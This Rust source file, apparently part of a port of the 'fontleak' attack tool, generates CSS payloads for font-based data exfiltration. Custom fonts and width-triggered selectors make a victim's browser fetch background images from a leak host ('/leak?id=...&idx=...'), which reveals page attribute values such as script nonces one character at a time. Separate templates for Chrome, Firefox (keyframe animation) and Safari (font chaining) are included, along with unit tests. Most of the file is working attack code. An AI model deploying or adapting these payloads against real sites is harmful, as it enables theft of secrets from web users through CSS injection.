//! Pure CSS/HTML templating: the five fixed template families of spec.md
//! §4.3, as free functions over [`RenderContext`]. No template engine
//! dependency — the field set is fixed and small enough that plain
//! `format!` is both clearer and, per the REDESIGN FLAG, lighter than
//! shipping a Jinja-equivalent crate for five shapes.

/// One width-signal sibling element: `width_containers[i]` pairs an
/// advance-width value with the alphabet index it signals.
pub struct WidthContainer {
    pub width: u32,
    pub char_idx: u32,
}

/// Every field a template might need. Individual render functions ignore
/// whatever they don't use.
pub struct RenderContext<'a> {
    pub id: &'a str,
    pub step: usize,
    /// The step glyph's codepoint, already escaped as a CSS `content`
    /// unicode escape (e.g. `\f0000`).
    pub step_char: &'a str,
    pub html_width: u32,
    /// Embedded `@font-face src` value, e.g. `data:font/opentype;base64,...`.
    pub font_path: &'a str,
    pub width_containers: &'a [WidthContainer],
    pub leak_selector: &'a str,
    pub host: &'a str,
    pub host_leak: &'a str,
    pub browser: &'a str,
    /// The attribute name the leak probe reads via CSS `attr()`
    /// (`ATTR` setting, spec.md §6.3). Unused by `render_staging`.
    pub attr: &'a str,
}

/// Builds `width_containers` for an alphabet of `alphabet_size` characters,
/// matching the original generator's indexing: `char_idx = html_width -
/// width - 1` (spec.md §4.3, `fontgen`/`cssgen` cross-reference).
pub fn width_containers(alphabet_size: u32, html_width: u32) -> Vec<WidthContainer> {
    (1..=alphabet_size)
        .map(|width| WidthContainer {
            width,
            char_idx: html_width - width - 1,
        })
        .collect()
}

fn font_face_block(font_path: &str) -> String {
    format!(
        "@font-face {{ font-family: 'fontleak'; src: url({font_path}) format('opentype'); }}"
    )
}

fn leak_background(host_leak: &str, id: &str, idx: u32) -> String {
    format!("background-image: url('{host_leak}/leak?id={id}&idx={idx}');")
}

/// A single width-triggered leak rule: when the hidden measurement
/// container's content happens to render at `width`, its sibling selector
/// fires the background-image fetch for alphabet index `char_idx`.
fn width_trigger_rule(ctx: &RenderContext<'_>, container: &WidthContainer) -> String {
    format!(
        "{selector}:nth-child({width}) + *:has(div[data-w=\"{width}\"]) {{ {bg} }}",
        selector = ctx.leak_selector,
        width = container.width,
        bg = leak_background(ctx.host_leak, ctx.id, container.char_idx),
    )
}

/// **staging** (Chrome only, spec.md §4.3): a minimal stylesheet whose body
/// triggers `@import url(host/?id=...&step=0)`, long-polling for the first
/// real step.
pub fn render_staging(ctx: &RenderContext<'_>) -> String {
    format!(
        "@import url('{host}/?id={id}&step=0');\n",
        host = ctx.host,
        id = ctx.id,
    )
}

/// **dynamic step**: the hidden leak-probe element plus the width-ladder of
/// sibling containers, for a session sitting at `ctx.step`.
pub fn render_dynamic_step(ctx: &RenderContext<'_>) -> String {
    let mut out = String::new();
    out.push_str(&font_face_block(ctx.font_path));
    out.push('\n');
    out.push_str(&format!(
        "{selector}::before {{ content: '{step_char}' attr({attr}); font-family: 'fontleak'; }}\n",
        selector = ctx.leak_selector,
        step_char = ctx.step_char,
        attr = ctx.attr,
    ));
    for container in ctx.width_containers {
        out.push_str(&width_trigger_rule(ctx, container));
        out.push('\n');
    }
    out
}

/// **static**: the full `idx_max`-wide chain in one stylesheet, for
/// non-streaming use (no long-poll, no per-step re-fetch).
pub fn render_static(ctx: &RenderContext<'_>, step_chars: &[String]) -> String {
    let mut out = String::new();
    out.push_str(&font_face_block(ctx.font_path));
    out.push('\n');
    for (step, step_char) in step_chars.iter().enumerate() {
        out.push_str(&format!(
            "{selector}[data-step=\"{step}\"]::before {{ content: '{step_char}' attr({attr}); font-family: 'fontleak'; }}\n",
            selector = ctx.leak_selector,
            attr = ctx.attr,
        ));
    }
    for container in ctx.width_containers {
        out.push_str(&width_trigger_rule(ctx, container));
        out.push('\n');
    }
    out
}

/// **animation** (Firefox, spec.md §4.3): Firefox does not retrigger layout
/// on `:has()` matches the way Chrome does, so instead of per-step
/// re-fetches the whole index chain is driven by a single `@keyframes`
/// timeline that steps through `content` values.
pub fn render_animation(ctx: &RenderContext<'_>, step_chars: &[String]) -> String {
    let mut out = String::new();
    out.push_str(&font_face_block(ctx.font_path));
    out.push('\n');

    let n = step_chars.len().max(1) as u32;
    out.push_str("@keyframes fontleak-step {\n");
    for (i, step_char) in step_chars.iter().enumerate() {
        let pct = (i as u32 * 100) / n;
        out.push_str(&format!(
            "  {pct}% {{ content: '{step_char}' attr({attr}); }}\n",
            attr = ctx.attr,
        ));
    }
    out.push_str("}\n");
    out.push_str(&format!(
        "{selector}::before {{ font-family: 'fontleak'; animation: fontleak-step {secs}s steps({n}) infinite; }}\n",
        selector = ctx.leak_selector,
        secs = n,
    ));
    for container in ctx.width_containers {
        out.push_str(&width_trigger_rule(ctx, container));
        out.push('\n');
    }
    out
}

/// **SFC** (Safari, "sequential font-chaining", spec.md §4.3): Safari
/// neither retriggers on `:has()` nor drives `@keyframes content` the way
/// Firefox's animation engine does, so each position gets its own
/// `@font-face` gated by a disjoint `unicode-range`, cascading position by
/// position as each font downloads in turn. `font_paths[i]` is the
/// per-position font generated with `offset = i * (alphabet_size + 1)`
/// (spec.md §4.5's Safari step re-fetch rule).
pub fn render_sfc(ctx: &RenderContext<'_>, font_paths: &[String], unicode_range_base: u32) -> String {
    let mut out = String::new();
    for (i, font_path) in font_paths.iter().enumerate() {
        let range_start = unicode_range_base + i as u32;
        out.push_str(&format!(
            "@font-face {{ font-family: 'fontleak-{i}'; src: url({font_path}) format('opentype'); unicode-range: U+{range_start:X}; }}\n"
        ));
    }
    out.push_str(&format!(
        "{selector}::before {{ content: attr({attr}); font-family: {families}; }}\n",
        selector = ctx.leak_selector,
        attr = ctx.attr,
        families = (0..font_paths.len())
            .map(|i| format!("'fontleak-{i}'"))
            .collect::<Vec<_>>()
            .join(", "),
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_ctx<'a>(containers: &'a [WidthContainer]) -> RenderContext<'a> {
        RenderContext {
            id: "1",
            step: 0,
            step_char: "\\f0000",
            html_width: 5,
            font_path: "data:font/opentype;base64,AA==",
            width_containers: containers,
            leak_selector: "script:first-of-type",
            host: "http://localhost:4242",
            host_leak: "http://127.0.0.1:4242",
            browser: "chrome",
            attr: "data-leak-attr",
        }
    }

    #[test]
    fn width_containers_match_original_indexing() {
        let containers = width_containers(3, 5);
        let widths: Vec<u32> = containers.iter().map(|c| c.width).collect();
        let idxs: Vec<u32> = containers.iter().map(|c| c.char_idx).collect();
        assert_eq!(widths, vec![1, 2, 3]);
        assert_eq!(idxs, vec![3, 2, 1]);
    }

    #[test]
    fn staging_emits_an_import_with_step_zero() {
        let containers = width_containers(2, 4);
        let ctx = sample_ctx(&containers);
        let css = render_staging(&ctx);
        assert!(css.contains("@import"));
        assert!(css.contains("step=0"));
        assert!(css.contains(ctx.id));
    }

    #[test]
    fn dynamic_step_emits_one_rule_per_width_container() {
        let containers = width_containers(4, 6);
        let ctx = sample_ctx(&containers);
        let css = render_dynamic_step(&ctx);
        assert!(css.contains("@font-face"));
        for container in &containers {
            assert!(css.contains(&format!("nth-child({})", container.width)));
        }
    }

    #[test]
    fn static_emits_a_rule_per_step_and_per_width() {
        let containers = width_containers(2, 4);
        let ctx = sample_ctx(&containers);
        let step_chars: Vec<String> = vec!["\\f0000".into(), "\\f0001".into()];
        let css = render_static(&ctx, &step_chars);
        assert!(css.contains("data-step=\"0\""));
        assert!(css.contains("data-step=\"1\""));
    }

    #[test]
    fn animation_spreads_steps_across_the_keyframe_timeline() {
        let containers = width_containers(2, 4);
        let ctx = sample_ctx(&containers);
        let step_chars: Vec<String> = vec!["\\f0000".into(), "\\f0001".into(), "\\f0002".into()];
        let css = render_animation(&ctx, &step_chars);
        assert!(css.contains("@keyframes fontleak-step"));
        assert!(css.contains("0%"));
    }

    #[test]
    fn sfc_gates_each_font_behind_a_disjoint_unicode_range() {
        let containers = width_containers(2, 4);
        let ctx = sample_ctx(&containers);
        let font_paths = vec!["data:font/opentype;base64,AA==".to_string(), "data:font/opentype;base64,BB==".to_string()];
        let css = render_sfc(&ctx, &font_paths, 0xF0000);
        assert!(css.contains("U+F0000"));
        assert!(css.contains("U+F0001"));
        assert!(css.contains("fontleak-0"));
        assert!(css.contains("fontleak-1"));
    }
}
